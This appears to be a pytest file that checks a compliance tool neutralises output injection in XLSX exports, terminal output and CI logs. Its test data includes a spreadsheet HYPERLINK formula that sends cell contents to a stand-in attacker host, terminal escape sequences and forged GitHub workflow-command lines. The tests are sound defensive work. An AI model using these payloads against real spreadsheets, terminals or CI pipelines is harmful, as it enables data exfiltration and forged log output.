"""Output injection: text from the repository is shown, never acted on, by a spreadsheet, a
terminal or a CI log."""

from __future__ import annotations

import os

from openpyxl import load_workbook

from conftest import MINIMAL_CONTROL

from .conftest import AS_OF, GENERATED, Hostile

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'


def test_a_formula_program_name_is_text_in_the_xlsx_about_sheet(hostile: Hostile) -> None:
    hostile.write({"ciptool.yaml": f"program: '{FORMULA}'\n"})
    out = hostile.out / "index.xlsx"
    hostile.run("report", "evidence-index", "-f", "xlsx", "-o", out, *AS_OF, *GENERATED, code=0)
    cell = load_workbook(out)["About"]["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)


ESCAPES = MINIMAL_CONTROL.replace(
    "title: Quarterly access recertification", 'title: "Quarterly\\e[2K\\e[1A \\u202egnissap"'
)


def test_escape_sequences_in_values_and_key_names_are_shown_not_sent(hostile: Hostile) -> None:
    hostile.write(
        {
            "controls/iam.yaml": ESCAPES,
            "controls/keys.yaml": MINIMAL_CONTROL.replace("IAM-01", "IAM-02").replace(
                "policy: POL-ACCESS", 'policy: "POL-\\e]0;owned\\a\\e[2K"'
            )
            + '    "\\e[2Kbad\\e[1Akey": x\n',
            os.fsdecode(b"controls/evil\x1b[2K.yaml"): "controls: [\n",
        }
    )
    checked = hostile.run("check", *AS_OF, code=1)
    explained = hostile.run("explain", "IAM-01", *AS_OF, code=1)  # evil.yaml is not read
    for outcome in (checked, explained):
        assert not {"\x1b", "\x07", "\u202e"} & set(outcome.output)
    lines = checked.stdout.splitlines()
    assert "controls/evil\\x1b[2K.yaml" in lines
    assert explained.stderr.startswith("controls/evil\\x1b[2K.yaml:2:1: error LD001 ")
    assert any("`\\x1b[2Kbad\\x1b[1Akey`" in line for line in lines), lines
    assert explained.stdout.splitlines()[0] == ("IAM-01: Quarterly\\x1b[2K\\x1b[1A \\u202egnissap")


FORGED = "\n::error::FORGED"


def test_a_newline_in_a_value_or_file_name_starts_no_workflow_command(hostile: Hostile) -> None:
    forged = MINIMAL_CONTROL.replace(
        "title: Quarterly access recertification", 'title: "Quarterly\\n::error::FORGED"'
    ).replace("owner: IAM lead", 'owner: "a\\n::error::FORGED"')
    invalid = MINIMAL_CONTROL.replace("IAM-01", "IAM-02").replace(
        "policy: POL-ACCESS", 'policy: "POL-X\\n::error::FORGED"'
    )
    hostile.write(
        {
            "controls/iam.yaml": forged,
            "controls/invalid.yaml": invalid,
            f"controls/x{FORGED}.yaml": "controls: [\n",
        }
    )
    runs = [
        hostile.run("check", *AS_OF, code=1),
        hostile.run("check", *AS_OF, "-f", "github", code=1),
        hostile.run("explain", "IAM-01", *AS_OF, code=1),  # naming the file it cannot read
    ]
    lines = "".join(outcome.output for outcome in runs).splitlines()
    assert not [line for line in lines if line.lstrip().startswith("::error::FORGED")]
    assert [line for line in lines if "FORGED" in line and not line.startswith(("::", " "))] == [
        "controls/x\\x0a::error::FORGED.yaml",
        "IAM-01: Quarterly\\x0a::error::FORGED",
        "owner:     a\\x0a::error::FORGED",
        "controls/x\\x0a::error::FORGED.yaml:2:1: error LD001 YAML syntax error: did not find"
        " expected node content (while parsing a flow node)",
    ]
